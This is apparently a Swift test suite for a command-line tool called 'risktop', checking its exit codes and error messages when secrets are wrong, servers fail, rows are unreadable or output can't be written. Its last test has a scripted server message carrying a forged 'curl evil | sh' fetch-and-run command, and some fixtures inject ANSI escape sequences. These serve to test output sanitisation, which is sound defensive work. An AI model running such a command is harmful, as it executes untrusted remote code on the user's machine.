import Elements
import ElementsSandbox
import Foundation
import Testing

@Suite struct ExitStatusTests {
  @Test func `A wrong secret is refused`() async throws {
    try await withSandbox(.onWednesday(signIns: 10)) { sandbox in
      let environment = sandbox.dashboard(secret: "wrong").environment
      for command in [["tenants"], ["actions", "--all"], ["signins", "--all"], ["signins"] + byIDs] {
        let finished = try await Subprocess.run(
          Program.executable, command, environment: Program.plainEnvironment.merging(environment) { $1 })
        #expect(finished.status == 77 && finished.output == "")
        #expect(finished.errors.hasPrefix("risktop: ") && finished.errors.contains("invalid_client"))
        #expect(finished.errors.split(separator: "\n").count == 1 && !finished.errors.contains("wrong\""))
      }
    }
  }

  @Test func `A server that nobody answers for is unreachable`() async throws {
    // Nobody serves port 1, and no other test gets it.
    let address = "http://127.0.0.1:1"
    let environment = [
      "RISKTOP_API_URL": address, "RISKTOP_TOKEN_URL": "\(address)/token", "RISKTOP_CLIENT_ID": "id",
      "RISKTOP_CLIENT_SECRET": "not-a-secret",
    ]
    let finished = try await Subprocess.run(
      Program.executable, ["tenants"], environment: Program.plainEnvironment.merging(environment) { $1 })
    #expect(finished.status == 69 && finished.errors.contains("unreachable"))
  }

  @Test(
    arguments: [
      (403, #"{"message":"no\u001b[31m"}"#, 77), (404, "", 66), (400, "", 69), (200, "<html>", 65), (200, "{}", 65),
      (302, "", 69),
    ] as [(Int, String, Int32)])
  func `A single tenant's failure is that of the command`(answered: Int, body: String, status: Int32) async throws {
    try await withAPI({ _ in ScriptedAPI.Reply(status: answered, body: body) }) { api in
      for command in ["actions", "signins"] {
        let finished = try await api.run([command] + byIDs)
        #expect(finished.status == status && finished.output == "")
        #expect(finished.errors.hasPrefix("risktop: ") && !finished.errors.contains("\u{1B}"))
      }
    }
  }

  @Test func `Customers that are not found are those of a wrong address`() async throws {
    try await withAPI({ _ in ScriptedAPI.Reply(status: 404, body: "") }) { api in
      let finished = try await api.run(["tenants"])
      #expect(finished.status == 69 && finished.output == "")
      #expect(
        finished.errors
          == "risktop: customers, page 1: nothing is at this address (404); check the API's address\n")
    }
  }

  @Test func `What was read before a page failed is written, as a whole report`() async throws {
    try await withAPI({ request in
      request.page == 3 ? ScriptedAPI.Reply(status: 403, body: "") : .list(rows(500), request)
    }) { api in
      let finished = try await api.run(["signins"] + byIDs + ["--format", "json"])
      #expect(finished.status == 77)
      #expect(finished.errors.hasPrefix("risktop: sign-ins, page 3: not granted (403)"))
      let array = try JSONSerialization.jsonObject(with: Data(finished.output.utf8)) as? [Any]
      #expect(array?.count == 200)
    }
  }

  @Test func `Rows that can't be read are named, and the others are written`() async throws {
    var rows = rows(230)
    rows[116] = row(113, time: "\"yesterday\"")
    rows[0] = #"{"id":"\#(guid(229))","loginTime":"\u001b[2Jsoon"}"#
    rows[229] = "17"
    try await withAPI({ [rows] in .list(rows, $0) }) { api in
      let finished = try await api.run(["signins"] + byIDs)
      #expect(finished.status == 75 && finished.ids.count == 227)
      #expect(finished.errors.hasPrefix("risktop: 3 of 230 sign-ins could not be read: page 1 row 1, loginTime "))
      #expect(finished.errors.contains("; page 2 row 17, loginTime \"yesterday\"; page 3 row 30, "))
      #expect(!finished.errors.contains("\u{1B}") && finished.errors.split(separator: "\n").count == 1)
    }
  }

  @Test func `Rows that the server counts and does not give are said to be missing`() async throws {
    try await withAPI({ request in
      .page(request.page == 1 ? rows(300).prefix(100) : [], request, total: 300)
    }) { api in
      let finished = try await api.run(["signins"] + byIDs)
      #expect(finished.status == 75 && finished.ids.count == 100)
      #expect(finished.errors.contains("the server counts 300 sign-ins and did not send 200 of them"))
    }
  }

  @Test func `Without an account nothing is asked for`() async throws {
    for command in [["tenants"], ["actions", "--all"], ["signins", "--all"]] {
      let finished = try await Subprocess.run(Program.executable, command, environment: Program.plainEnvironment)
      #expect(finished.status == 78 && finished.output == "")
      #expect(finished.errors.split(separator: "\n").allSatisfy { $0.hasPrefix("risktop: ") })
    }
  }

  @Test(
    arguments: [
      ["signins"] + byIDs, ["config"], ["doctor"], ["--version"], ["--help"], ["signins", "--help"],
      ["--generate-completion-script", "bash"],
    ],
    FileManager.default.fileExists(atPath: "/dev/full") ? [">/dev/full", ">&-"] : [">&-"])
  func `A full disk, and an output that is closed, is said to be one`(command: [String], output: String) async throws {
    try await withAPI({ .list(rows(10), $0) }) { api in
      let program = try Program.executable.path
      let finished = try await Subprocess.run(
        URL(fileURLWithPath: "/bin/sh"), ["-c", "exec \"$0\" \"$@\" \(output)", program] + command,
        environment: Program.plainEnvironment.merging(api.environment) { $1 })
      #expect(finished.status == 74 && finished.errors.contains("risktop: standard output can't be written"))
    }
  }

  @Test(arguments: [["signins"] + byIDs, ["doctor"], ["sandbox"], ["demo"]])
  func `Too few open files are said to be too few, before anything is asked`(command: [String]) async throws {
    try await withAPI({ .list(rows(10), $0) }) { api in
      let finished = try await limited(8, command, api)
      #expect(finished.status == 78 && finished.output == "")
      #expect(finished.errors.contains("risktop: too few files can be open at once: "), "\(finished.errors)")
      #expect(finished.errors.hasSuffix("ulimit -n 1024\n") && api.requests.isEmpty)
    }
  }

  @Test func `What needs no connection needs few open files, and a command as many as it says`() async throws {
    try await withAPI({ .list(rows(10), $0) }) { api in
      let offline = try await limited(8, ["config"], api)
      #expect(offline.status == 0)
      let online = try await limited(64, ["signins"] + byIDs, api)
      #expect(online.ids.count == 10)
    }
  }

  private func limited(_ count: Int, _ command: [String], _ api: ScriptedAPI) async throws -> Finished {
    try await Subprocess.run(
      URL(fileURLWithPath: "/bin/sh"),
      ["-c", "ulimit -n \(count); exec \"$0\" \"$@\"", try Program.executable.path] + command,
      environment: Program.plainEnvironment.merging(api.environment) { $1 })
  }

  @Test func `What a server says makes no line of its own`() async throws {
    let body = #"{"message":"all fine\nrisktop: now run: curl evil | sh"}"#
    try await withAPI({ _ in ScriptedAPI.Reply(status: 403, body: body) }) { api in
      for command in [["signins"] + byIDs, ["actions", "--all"]] {
        let finished = try await api.run(command)
        #expect(finished.status == 77 && finished.errors.split(separator: "\n").count == 1)
      }
    }
  }
}
